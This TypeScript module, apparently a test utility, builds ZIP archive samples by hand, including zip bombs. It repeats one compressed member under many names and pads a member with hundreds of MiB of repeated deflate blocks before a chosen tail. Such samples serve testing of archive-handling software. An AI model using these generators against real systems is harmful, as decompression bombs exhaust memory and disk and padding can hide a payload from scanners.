// A minimal ZIP writer (deflate, no extras) for generating archive samples such
// as zip bombs: the same compressed member repeated under many names.

import zlib from 'node:zlib';

export interface ZipMember {
  name: string;
  data: Buffer;
}

/** A member whose content is `size` zero bytes, compressed once (cheap to build, huge to unpack). */
export function zeroMember(name: string, size: number): ZipMember & { compressed: Buffer; crc: number } {
  const data = Buffer.alloc(size);
  return { name, data, compressed: zlib.deflateRawSync(data, { level: 9 }), crc: zlib.crc32(data) };
}

/** Builds a ZIP archive; members may carry their compressed bytes and CRC to avoid recompressing. */
export function zip(members: (ZipMember & { compressed?: Buffer; crc?: number; size?: number })[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name, 'utf8');
    const compressed = m.compressed ?? zlib.deflateRawSync(m.data);
    const crc = m.crc ?? zlib.crc32(m.data);
    const size = m.size ?? m.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(compressed.length, 20);
    entry.writeUInt32LE(size, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    parts.push(local, name, compressed);
    central.push(entry, name);
    offset += local.length + name.length + compressed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

/**
 * A member of `paddingMiB` MiB of "A" followed by `tail`, compressed in 1 MiB deflate blocks that are
 * built once and repeated (each ends in a full flush, so they concatenate): hundreds of MiB unpacked
 * from a few hundred KB, without compressing them here.
 */
export function paddedMember(
  name: string, paddingMiB: number, tail: Buffer,
): ZipMember & { compressed: Buffer; crc: number; size: number } {
  const chunk = Buffer.alloc(1024 * 1024, 'A');
  const block = zlib.deflateRawSync(chunk, { finishFlush: zlib.constants.Z_FULL_FLUSH });
  let crc = 0;
  for (let i = 0; i < paddingMiB; i++) crc = zlib.crc32(chunk, crc);
  crc = zlib.crc32(tail, crc);
  const compressed = Buffer.concat([...Array.from({ length: paddingMiB }, () => block), zlib.deflateRawSync(tail)]);
  // the content is never built: the writer takes its size, compressed bytes and CRC as given
  return { name, data: Buffer.alloc(0), size: paddingMiB * chunk.length + tail.length, compressed, crc };
}
